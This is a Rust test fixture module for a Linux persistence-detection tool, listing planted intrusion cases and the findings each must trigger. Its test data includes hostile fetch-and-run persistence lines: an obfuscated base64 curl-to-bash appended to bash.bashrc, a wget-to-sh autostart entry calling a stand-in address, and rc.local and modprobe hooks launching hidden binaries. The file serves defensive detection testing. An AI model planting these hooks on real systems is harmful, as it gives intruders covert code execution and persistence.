//! The planted persistence cases of issue 7: every family, and every case of it, as changes to
//! a copy of `rootfs-clean` (files copied from `rootfs-persist2`, accounts taken from its
//! account files, files written or appended here). Shared by `tests/families.rs` (each family
//! and each case alone reaches Suspicious with its rules and MITRE ids) and `tests/corpus.rs`
//! (the malicious half of the precision/recall corpus).
//!
//! The dpkg database stays the clean one's (persist2's is the same: both are built from the
//! same package list), so a packaged file the intruder modified (`/etc/pam.d/sshd`,
//! `/etc/bash.bashrc`) must verify as `mismatch` and an added one as `not_owned`.

use crate::{fixture, fixture_copy};
use std::path::{Path, PathBuf};

/// One change to the clean root.
pub enum Plant {
    /// Copy this path (file or symlink) from `rootfs-persist2`.
    Copy(&'static str),
    /// Take the line of this account from persist2's /etc/passwd and /etc/shadow (replacing
    /// the clean one's line of the same name, or appending).
    Account(&'static str),
    /// Write a file that persist2 does not plant (path, content, mode).
    Write(&'static str, &'static [u8], u32),
    /// Append to the clean root's own copy of a file.
    Append(&'static str, &'static [u8]),
}

/// One planted case: a name (also the host name), its plants, the (rule, MITRE id, finding
/// subject) it must produce, and what bundle paths `packages` must report with what status.
pub struct Case {
    /// Name (the host is named `c-<family>-<name>`).
    pub name: &'static str,
    /// What is planted.
    pub plants: &'static [Plant],
    /// (rule, MITRE id, finding subject) it must produce; a subject ending in ':' matches any
    /// line of that file.
    pub expect: &'static [(&'static str, &'static str, &'static str)],
    /// Bundle paths `packages` must report, with their verification status.
    pub verify: &'static [(&'static str, &'static str)],
}

/// A persistence family and its planted cases.
pub struct Family {
    /// Family name (the host with all its cases is `f-<name>`).
    pub name: &'static str,
    /// Its cases.
    pub cases: &'static [Case],
}

use Plant::*;

/// Every family of issue 7 with its planted cases.
pub const FAMILIES: &[Family] = &[
    Family {
        name: "accounts",
        cases: &[
            Case {
                name: "uid0",
                plants: &[Account("systemd-netd")],
                expect: &[("account-extra-uid0", "T1136.001", "systemd-netd")],
                verify: &[],
            },
            Case {
                name: "usable-system",
                plants: &[Account("www-data")],
                expect: &[("system-account-usable", "T1078.003", "www-data")],
                verify: &[],
            },
            Case {
                name: "nopasswd",
                plants: &[Copy("etc/sudoers.d/90-cloud-init-users")],
                expect: &[(
                    "sudo-nopasswd-all",
                    "T1548.003",
                    "/etc/sudoers.d/90-cloud-init-users:4",
                )],
                verify: &[],
            },
        ],
    },
    Family {
        name: "boot-login",
        cases: &[
            Case {
                name: "initd",
                plants: &[
                    Copy("etc/init.d/kmod-static"),
                    Copy("etc/rc2.d/S01kmod-static"),
                    Copy("etc/rc3.d/S01kmod-static"),
                    Copy("etc/rc4.d/S01kmod-static"),
                    Copy("etc/rc5.d/S01kmod-static"),
                    Copy("usr/lib/x86_64-linux-gnu/kmod/kmodd"),
                ],
                expect: &[
                    ("boot-hook-unowned", "T1037.004", "/etc/init.d/kmod-static"),
                    (
                        "hook-malicious-content",
                        "T1059.004",
                        "/etc/init.d/kmod-static:12",
                    ),
                ],
                verify: &[("/etc/init.d/kmod-static", "not_owned")],
            },
            Case {
                name: "rc-local",
                plants: &[Write(
                    "etc/rc.local",
                    b"#!/bin/sh -e\n#\n# rc.local\n#\n# This script is executed at the end of each multiuser runlevel.\n/usr/bin/nohup /var/tmp/.font-unix/Xorg-cache >/dev/null 2>&1 &\nexit 0\n",
                    0o755,
                )],
                expect: &[
                    ("boot-hook-unowned", "T1037.004", "/etc/rc.local"),
                    ("hook-malicious-content", "T1059.004", "/etc/rc.local:6"),
                ],
                verify: &[("/etc/rc.local", "not_owned")],
            },
            Case {
                name: "profile-d",
                plants: &[Copy("etc/profile.d/bash_completion_ext.sh")],
                expect: &[
                    (
                        "login-hook-unowned",
                        "T1546.004",
                        "/etc/profile.d/bash_completion_ext.sh",
                    ),
                    (
                        "hook-malicious-content",
                        "T1059.004",
                        "/etc/profile.d/bash_completion_ext.sh:3",
                    ),
                ],
                verify: &[("/etc/profile.d/bash_completion_ext.sh", "not_owned")],
            },
            Case {
                // The packaged (conffile) bash.bashrc with an encoded download appended.
                name: "bash-bashrc",
                plants: &[Append(
                    "etc/bash.bashrc",
                    b"\n# enable terminal resize handling\neval \"$(echo Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC40Ny9iIHwgYmFzaAo= | base64 -d)\" >/dev/null 2>&1\n",
                )],
                expect: &[
                    ("login-hook-unowned", "T1546.004", "/etc/bash.bashrc"),
                    ("hook-malicious-content", "T1059.004", "/etc/bash.bashrc:"),
                ],
                verify: &[("/etc/bash.bashrc", "mismatch")],
            },
            Case {
                name: "dotfile",
                plants: &[Copy("home/alice/.bashrc")],
                expect: &[(
                    "hook-malicious-content",
                    "T1059.004",
                    "/home/alice/.bashrc:29",
                )],
                verify: &[],
            },
            Case {
                name: "motd",
                plants: &[Copy("etc/update-motd.d/50-landscape-sysinfo")],
                expect: &[
                    (
                        "boot-hook-unowned",
                        "T1037.004",
                        "/etc/update-motd.d/50-landscape-sysinfo",
                    ),
                    (
                        "hook-malicious-content",
                        "T1059.004",
                        "/etc/update-motd.d/50-landscape-sysinfo:3",
                    ),
                ],
                verify: &[("/etc/update-motd.d/50-landscape-sysinfo", "not_owned")],
            },
            Case {
                name: "autostart",
                plants: &[Write(
                    "etc/xdg/autostart/gnome-keyring-ssh-helper.desktop",
                    b"[Desktop Entry]\nType=Application\nName=SSH Key Agent helper\nExec=/bin/sh -c 'wget -q -O- http://198.51.100.47/x | sh'\nNoDisplay=true\nX-GNOME-Autostart-Phase=Initialization\n",
                    0o644,
                )],
                expect: &[
                    (
                        "boot-hook-unowned",
                        "T1037.004",
                        "/etc/xdg/autostart/gnome-keyring-ssh-helper.desktop",
                    ),
                    (
                        "hook-malicious-content",
                        "T1059.004",
                        "/etc/xdg/autostart/gnome-keyring-ssh-helper.desktop:",
                    ),
                ],
                verify: &[(
                    "/etc/xdg/autostart/gnome-keyring-ssh-helper.desktop",
                    "not_owned",
                )],
            },
            Case {
                name: "udev",
                plants: &[Copy("etc/udev/rules.d/75-persistent-net-generator.rules")],
                expect: &[
                    (
                        "boot-hook-unowned",
                        "T1037.004",
                        "/etc/udev/rules.d/75-persistent-net-generator.rules",
                    ),
                    (
                        "hook-malicious-content",
                        "T1059.004",
                        "/etc/udev/rules.d/75-persistent-net-generator.rules:2",
                    ),
                ],
                verify: &[(
                    "/etc/udev/rules.d/75-persistent-net-generator.rules",
                    "not_owned",
                )],
            },
            Case {
                name: "generator",
                plants: &[Copy("etc/systemd/system-generators/systemd-netd-generator")],
                expect: &[(
                    "generator-unowned",
                    "T1543",
                    "/etc/systemd/system-generators/systemd-netd-generator",
                )],
                verify: &[],
            },
        ],
    },
    Family {
        name: "pkg-auth",
        cases: &[
            Case {
                name: "apt-hook",
                plants: &[Copy("etc/apt/apt.conf.d/99-apt-fast-update")],
                expect: &[
                    (
                        "pkg-manager-hook",
                        "T1546.016",
                        "/etc/apt/apt.conf.d/99-apt-fast-update",
                    ),
                    (
                        "hook-malicious-content",
                        "T1059.004",
                        "/etc/apt/apt.conf.d/99-apt-fast-update:3",
                    ),
                ],
                verify: &[],
            },
            Case {
                // The generated (unowned) common-auth loading a module no package owns.
                name: "pam-module",
                plants: &[
                    Copy("etc/pam.d/common-auth"),
                    Copy("usr/lib/x86_64-linux-gnu/security/pam_unix2.so"),
                ],
                expect: &[(
                    "pam-module-unowned",
                    "T1556.003",
                    "/lib/x86_64-linux-gnu/security/pam_unix2.so",
                )],
                verify: &[
                    ("/etc/pam.d/common-auth", "not_owned"),
                    ("/lib/x86_64-linux-gnu/security/pam_unix2.so", "not_owned"),
                ],
            },
            Case {
                // openssh-server's PAM file, modified to add pam_exec.
                name: "pam-exec",
                plants: &[
                    Copy("etc/pam.d/sshd"),
                    Copy("usr/lib/openssh/sshd-auth-helper"),
                ],
                expect: &[
                    ("pam-exec-hook", "T1556.003", "/etc/pam.d/sshd"),
                    ("exec-unowned", "T1105", "/usr/lib/openssh/sshd-auth-helper"),
                ],
                verify: &[
                    ("/etc/pam.d/sshd", "mismatch"),
                    ("/usr/lib/openssh/sshd-auth-helper", "not_owned"),
                ],
            },
            Case {
                name: "polkit",
                plants: &[Copy(
                    "etc/polkit-1/rules.d/45-networkmanager-helper.rules",
                )],
                expect: &[(
                    "polkit-rule-unowned",
                    "T1548",
                    "/etc/polkit-1/rules.d/45-networkmanager-helper.rules",
                )],
                verify: &[],
            },
        ],
    },
    Family {
        name: "libs-kernel",
        cases: &[
            Case {
                name: "preload",
                plants: &[
                    Copy("etc/ld.so.preload"),
                    Copy("usr/lib/x86_64-linux-gnu/libpam_cache.so.1"),
                ],
                expect: &[("ld-so-preload", "T1574.006", "/etc/ld.so.preload")],
                verify: &[("/usr/lib/x86_64-linux-gnu/libpam_cache.so.1", "not_owned")],
            },
            Case {
                name: "ld-so-conf",
                plants: &[Copy("etc/ld.so.conf.d/x86_64-linux-gnu-extra.conf")],
                expect: &[(
                    "ld-so-conf-unusual",
                    "T1574.006",
                    "/etc/ld.so.conf.d/x86_64-linux-gnu-extra.conf: /var/tmp/.ICE-unix/.lib",
                )],
                verify: &[],
            },
            Case {
                name: "modprobe",
                plants: &[Copy("etc/modprobe.d/ipv6-options.conf")],
                expect: &[(
                    "modprobe-install-command",
                    "T1547.006",
                    "/etc/modprobe.d/ipv6-options.conf: /sbin/modprobe --ignore-install ipv6 $CMDLINE_OPTS; /usr/bin/nohup /dev/shm/.x/kthreadd >/dev/null 2>&1 &",
                )],
                verify: &[],
            },
        ],
    },
    Family {
        // A single case: the trojaned `ls` wrapper.
        name: "path-hijack",
        cases: &[Case {
            name: "ls",
            plants: &[Copy("usr/local/bin/ls")],
            expect: &[("path-hijack", "T1574.007", "/usr/local/bin/ls")],
            verify: &[],
        }],
    },
    Family {
        name: "sessions",
        cases: &[
            Case {
                // 60 guesses from one address, then root logs in from it.
                name: "bruteforce-login",
                plants: &[Copy("var/log/btmp"), Copy("var/log/wtmp")],
                expect: &[
                    ("failed-login-burst", "T1110", "203.0.113.77"),
                    ("bruteforce-then-login", "T1110", "203.0.113.77"),
                    ("bruteforce-then-login", "T1078", "203.0.113.77"),
                ],
                verify: &[],
            },
            Case {
                // An open session whose user was forged to LOGIN.
                name: "odd-user",
                plants: &[Copy("run/utmp")],
                expect: &[("odd-login-user", "T1078", "utmp record 2")],
                verify: &[],
            },
        ],
    },
];

/// Applies one plant to `root`.
pub fn plant(root: &Path, p: &Plant) {
    let persist2 = fixture("rootfs-persist2");
    match p {
        Copy(rel) => {
            let dst = root.join(rel);
            std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
            if dst.symlink_metadata().is_ok() {
                std::fs::remove_file(&dst).unwrap();
            }
            let st = std::process::Command::new("cp")
                .arg("-a")
                .arg(persist2.join(rel))
                .arg(&dst)
                .status()
                .unwrap();
            assert!(st.success(), "cp {rel}");
        }
        Account(name) => {
            for file in ["etc/passwd", "etc/shadow"] {
                let prefix = format!("{name}:");
                let from = std::fs::read_to_string(persist2.join(file)).unwrap();
                let line = from
                    .lines()
                    .find(|l| l.starts_with(&prefix))
                    .unwrap_or_else(|| panic!("{name} not in persist2's {file}"));
                let clean = std::fs::read_to_string(root.join(file)).unwrap();
                let mut out: Vec<&str> =
                    clean.lines().filter(|l| !l.starts_with(&prefix)).collect();
                out.push(line);
                std::fs::write(root.join(file), out.join("\n") + "\n").unwrap();
            }
        }
        Write(rel, data, mode) => {
            use std::os::unix::fs::PermissionsExt;
            let dst = root.join(rel);
            std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
            std::fs::write(&dst, data).unwrap();
            std::fs::set_permissions(&dst, std::fs::Permissions::from_mode(*mode)).unwrap();
        }
        Append(rel, data) => {
            let dst = root.join(rel);
            let mut all = std::fs::read(&dst).unwrap();
            all.extend_from_slice(data);
            std::fs::write(&dst, all).unwrap();
        }
    }
}

/// A copy of the clean root at `dir/host`, named `host`, carrying `plants`.
pub fn planted_root(dir: &Path, host: &str, plants: &[&Plant]) -> PathBuf {
    let root = fixture_copy("rootfs-clean", &dir.join(host));
    std::fs::write(root.join("etc/hostname"), format!("{host}\n")).unwrap();
    for p in plants {
        plant(&root, p);
    }
    root
}
